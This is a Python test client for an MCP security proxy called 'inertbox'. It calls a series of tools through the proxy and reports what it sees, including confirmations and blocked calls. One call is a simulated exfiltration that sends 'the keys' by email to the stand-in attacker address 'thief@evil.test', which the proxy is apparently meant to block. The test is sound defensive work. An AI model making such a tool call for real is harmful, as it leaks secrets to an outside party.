"""Drive `inertbox mcp proxy` in front of tests/mcp_proxy_server.py with the
official Python MCP SDK's stdio client, and print one JSON line with what it
saw, for tests/cli/proxy.rs to check.

Usage: python tests/mcp_proxy_client.py BINARY PINS SENT_LOG PHASE, where
PHASE is `first` (list, call, elicit, log, ping, confirm, fence, block,
read a resource, get a prompt) or
`listing` (only list the tools: the test changes a description between
runs)."""
import asyncio
import json
import os
import sys

from mcp import ClientSession, StdioServerParameters, types
from pydantic import AnyUrl
from mcp.client.stdio import stdio_client

BINARY, PINS, SENT_LOG, PHASE = sys.argv[1:5]
SERVER = [sys.executable, __file__.replace("mcp_proxy_client.py", "mcp_proxy_server.py"), SENT_LOG]

asked = []  # the messages of every elicitation the client saw
logged = []  # the log messages the server sent


async def elicit(context, params):
    asked.append(params.message)
    if params.message.startswith("inertbox asks"):
        return types.ElicitResult(action="accept", content={"allow": True})
    return types.ElicitResult(action="accept", content={"name": "Ada"})


async def log(params):
    logged.append(params.data)


def text(result):
    return "\n".join(c.text for c in result.content if c.type == "text")


async def main():
    # The whole environment (the SDK passes only a few variables by default):
    # the test sets ADD_DESCRIPTION for the server behind the proxy.
    params = StdioServerParameters(
        command=BINARY, args=["mcp", "proxy", "--pins", PINS, "--", *SERVER], env=dict(os.environ)
    )
    async with stdio_client(params) as (read, write):
        async with ClientSession(read, write, elicitation_callback=elicit, logging_callback=log) as session:
            init = await session.initialize()
            tools = [t.name for t in (await session.list_tools()).tools]
            report = {"tools": tools, "instructions": init.instructions}
            if PHASE == "first":
                await session.send_ping()
                add = await session.call_tool("add", {"a": 2, "b": 3})
                greet = await session.call_tool("get_greeting", {})
                slow = await session.call_tool("check_status", {})
                # Clean content was read: a send to a new address is put to the user.
                confirmed = await session.call_tool("send_email", {"to": "bob@home.test", "body": "hi"})
                page = await session.call_tool("fetch_page", {"url": "https://news.test/lisbon"})
                blocked = await session.call_tool("send_email", {"to": "thief@evil.test", "body": "the keys"})
                withheld = await session.call_tool("lookup", {"word": "x"})
                resource = await session.read_resource(AnyUrl("file:///notes.txt"))
                prompt = await session.get_prompt("review", {"file": "a.rs"})
                report.update({
                    "add": text(add),
                    "greet": text(greet),
                    "slow": text(slow),
                    "logged": logged,
                    "asked": asked,
                    "confirmed": text(confirmed),
                    "confirmed_error": confirmed.isError,
                    "page": text(page),
                    "blocked": text(blocked),
                    "blocked_error": blocked.isError,
                    "withheld": text(withheld),
                    "withheld_error": withheld.isError,
                    "resource": [[str(c.uri), c.mimeType, c.text] for c in resource.contents],
                    "prompt": [[m.role, m.content.text] for m in prompt.messages],
                })
            print(json.dumps(report))


asyncio.run(main())
